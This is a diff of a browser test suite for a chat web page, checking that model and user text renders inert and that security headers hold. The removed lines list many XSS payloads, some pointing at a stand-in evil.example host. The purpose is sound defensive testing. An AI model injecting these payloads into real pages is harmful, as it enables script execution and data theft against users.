@@ -1,52 +1,18 @@
 """R1, R3: whatever a user or a model writes is text. The server's policy must never be what stops it."""
 
-import shutil
+from collections.abc import Mapping
 from pathlib import Path
 
 import pytest
-from playwright.sync_api import expect
+from playwright.sync_api import Page, expect
 
 from tests.web.chat_page import ChatPage
 from tests.web.conftest import OpenPage
 from tests.web.page_server import PageServer, replying
+from tests.web.payloads import FAKE_SERVER, GUARD, PAYLOADS
 
 pytestmark = pytest.mark.browser
 
-PAYLOADS = [
-    "<script>alert(1)</script>",
-    '"><script src=//evil.example/x.js></script>',
-    "<img src=x onerror=alert(1)>",
-    "<img src=//evil.example/pixel.gif>",
-    "<svg/onload=alert(1)>",
-    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
-    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)/>#x'>",
-    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
-    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
-    "<iframe src=javascript:alert(1)>",
-    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
-    "[click](javascript:alert(1))",
-    "![pixel](https://evil.example/pixel.gif)",
-    "<details open ontoggle=alert(1)>",
-    "<input autofocus onfocus=alert(1)>",
-    "<style>@import '//evil.example/x.css';</style>",
-    "<link rel=stylesheet href=//evil.example/x.css>",
-    "<meta http-equiv=refresh content='0;url=//evil.example'>",
-    "<base href=//evil.example/>",
-    "<form action=//evil.example><button>x</button></form>",
-    "<object data=javascript:alert(1)></object>",
-    "<embed src=//evil.example/x.swf>",
-    "<body onpageshow=alert(1)>",
-    "```<img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```",
-    "`<img src=x onerror=alert(1)>`",
-    "**<img src=x onerror=alert(1)>**",
-    "# <img src=x onerror=alert(1)>",
-    "{@html '<img src=x onerror=alert(1)>'}",
-    "${alert(1)} {{constructor.constructor('alert(1)')()}}",
-    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
-    "\u202ealert(1)\u202c \u2028 <\u0130mg src=x onerror=alert(1)>",
-    "<template><script>alert(1)</script></template>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-]
 CORPUS = "\n\n".join(PAYLOADS)
 LINKS = """- [the docs](https://docs.example/x)
 - [https://bank.example](https://evil.example/)
@@ -56,11 +22,16 @@ LINKS = """- [the docs](https://docs.example/x)
 """
 
 
-def test_r1_payloads_are_text_wherever_they_stand(
+def test_there_are_60_payloads() -> None:
+    assert len(set(PAYLOADS)) == 60
+
+
+def test_r1_whole_payloads_are_text_wherever_they_stand(
     data_dir: Path, built_page: Path, open_page: OpenPage
 ) -> None:
-    with PageServer(data_dir, replying(lambda text: CORPUS)) as server:
-        chat = open_page(server.url)
+    runner = replying(lambda text: CORPUS, 2048)
+    with PageServer(data_dir, runner, context_length=32_000) as server:
+        chat = open_page(server.url, before=lambda page: page.add_init_script(GUARD))
         chat.ask(CORPUS)  # the title too is made of it
         chat.page.reload()
         chat.wait_ended()
@@ -68,13 +39,42 @@ def test_r1_payloads_are_text_wherever_they_stand(
             shown = article.inner_text()
             assert "<script>alert(1)</script>" in shown
             assert "onerror=alert(1)" in shown
-        foreign = "script:not([src^='./assets/']):not([src='./look.js']), iframe, object, embed, img, base, form[action], style"
+        scripts = ":not([src^='./assets/']):not([src='./look.js'])"
+        foreign = f"script{scripts}, iframe, object, embed, img, base, form[action], style, template"
         expect(chat.page.locator(foreign)).to_have_count(0)
-        expect(chat.page.locator("article svg [onload], [onerror], [onfocus]")).to_have_count(0)
-        links = chat.page.locator("article a")
-        expect(links).to_have_count(1)  # the picture: named, not fetched
-        expect(links).to_have_text("pixel (evil.example)")
-        expect(links).to_have_attribute("href", "https://evil.example/pixel.gif")
+        assert chat.page.evaluate("chatdForeign") == []
+        hosts = chat.page.locator("article a").evaluate_all("links => links.map(link => link.href)")
+        evil = "https://evil.example/"
+        assert set(hosts) == {evil, f"{evil}pixel.gif", f"{evil}i.png", "https://bank.example/"}
+
+
+def test_r1_payloads_cut_at_each_delta(server: PageServer, open_page: OpenPage) -> None:
+    """Each payload as an answer of its own, painted after every character; coloured and typeset as it comes."""
+
+    def before(page: Page) -> None:
+        page.add_init_script(GUARD)
+        page.add_init_script(FAKE_SERVER)
+
+    chat = open_page(server.url, before=before)
+    for number, payload in enumerate(PAYLOADS, 1):
+        chat.send(payload)
+        expect(chat.answers).to_have_count(number)
+        chat.wait_ended()
+    assert chat.page.evaluate("chatdPaints") == sum(map(len, PAYLOADS))
+    expect(chat.page.locator(".katex, .katex-error").first).to_be_attached()
+    expect(chat.page.locator(".hljs-tag, .hljs-name").first).to_be_attached()
+    assert chat.page.evaluate("chatdForeign") == []
+
+
+@pytest.mark.parametrize("payload", ["<img src=x onerror=alert(1)>", "`${alert(1)}`\"'><svg/onload=alert(1)>"])
+def test_r1_a_file_and_its_name_are_text(chat: ChatPage, payload: str) -> None:
+    file = {"name": f"{payload.replace('/', '')}.md", "mimeType": "text/plain", "buffer": payload.encode()}
+    chat.page.get_by_label("Add text files").and_(chat.page.locator("input")).set_input_files([file])
+    expect(chat.page.get_by_role("list", name="Added files").get_by_role("listitem")).to_have_count(1)
+    chat.send_button.click()
+    chat.wait_ended()
+    chat.questions.last.locator("summary").click()
+    expect(chat.questions.last.locator("pre")).to_have_text(payload)
 
 
 def test_r1_links_open_apart_and_say_where_they_lead(
@@ -105,33 +105,41 @@ def test_r1_a_title_is_text(chat: ChatPage) -> None:
     assert chat.page.title().startswith("<img src=x")
 
 
+@pytest.mark.parametrize("path", ["nowhere", "assets/nowhere.js", "api/v1/nowhere", "api/v1/conversations/x"])
+def test_r3_pages_of_errors_come_with_a_policy(chat: ChatPage, path: str) -> None:
+    response = chat.page.request.get(chat.url + path)
+    assert response.status == 404
+    _check_headers(response.headers)
+
+
 def test_r3_the_page_and_what_it_loads_come_with_a_policy(chat: ChatPage, built_page: Path) -> None:
     files = [path.relative_to(built_page) for path in built_page.rglob("*") if path.is_file()]
     for path in ["", *map(str, files)]:
-        headers = chat.page.request.get(chat.url + path).headers
-        policy = headers["content-security-policy"]
-        assert "unsafe-inline" not in policy
-        assert "script-src 'self'" in policy
-        assert "frame-ancestors 'none'" in policy
-        assert headers["x-content-type-options"] == "nosniff"
-        assert headers["referrer-policy"] == "no-referrer"
+        _check_headers(chat.page.request.get(chat.url + path).headers)
 
 
-def test_the_page_works_under_trusted_types(
-    data_dir: Path, built_page: Path, open_page: OpenPage, tmp_path: Path
-) -> None:
-    """No component needs a way to turn text into markup: so a policy can forbid it outright."""
-    policy = "require-trusted-types-for 'script'; trusted-types"
-    web = tmp_path / "web"
-    shutil.copytree(built_page, web)
-    index = (web / "index.html").read_text()
-    every_block = (
-        "`a`\n\n# b\n\n```js\nc\n```\n> - [d](http://d.example)\n\n| e |\n| --: |\n| f |\n\n---\n3. *g*"
+def _check_headers(headers: Mapping[str, str]) -> None:
+    policy = headers["content-security-policy"]
+    assert "unsafe" not in policy
+    assert "script-src 'self'" in policy
+    assert "style-src 'self'" in policy
+    assert "frame-ancestors 'none'" in policy
+    assert "require-trusted-types-for 'script'; trusted-types chatd dompurify;" in policy
+    assert headers["x-content-type-options"] == "nosniff"
+    assert headers["referrer-policy"] == "no-referrer"
+
+
+def test_nothing_but_the_pages_own_policies_makes_markup(chat: ChatPage) -> None:
+    """Trusted Types are on: no text becomes an element, a script or a worker by any other way."""
+    assert chat.page.evaluate(
+        """() => [
+            () => { document.body.innerHTML = "<b>x</b>"; },
+            () => { document.createElement("script").src = "./look.js"; },
+            () => trustedTypes.createPolicy("another", {}),
+            () => trustedTypes.createPolicy("chatd", {}),
+        ].map((attempt) => { try { attempt(); return "done"; } catch (error) { return error.name; } })"""
+    ) == ["TypeError"] * 4
+    assert chat.page.evaluate("navigator.serviceWorker.register('./evil.js').catch((error) => error.name)") == (
+        "TypeError"
     )
-    meta = f'<head><meta http-equiv="content-security-policy" content="{policy}">'
-    (web / "index.html").write_text(index.replace("<head>", meta))
-    with PageServer(data_dir, replying(lambda text: every_block), web=web) as server:
-        chat = open_page(server.url)
-        chat.ask("still works?")
-        expect(chat.answer_text.locator("code")).to_have_count(2)
-        expect(chat.answer_text.locator("td.end, hr, ol[start='3'] em, blockquote ul a")).to_have_count(4)
+    chat.troubles.found.clear()  # the browser reported each
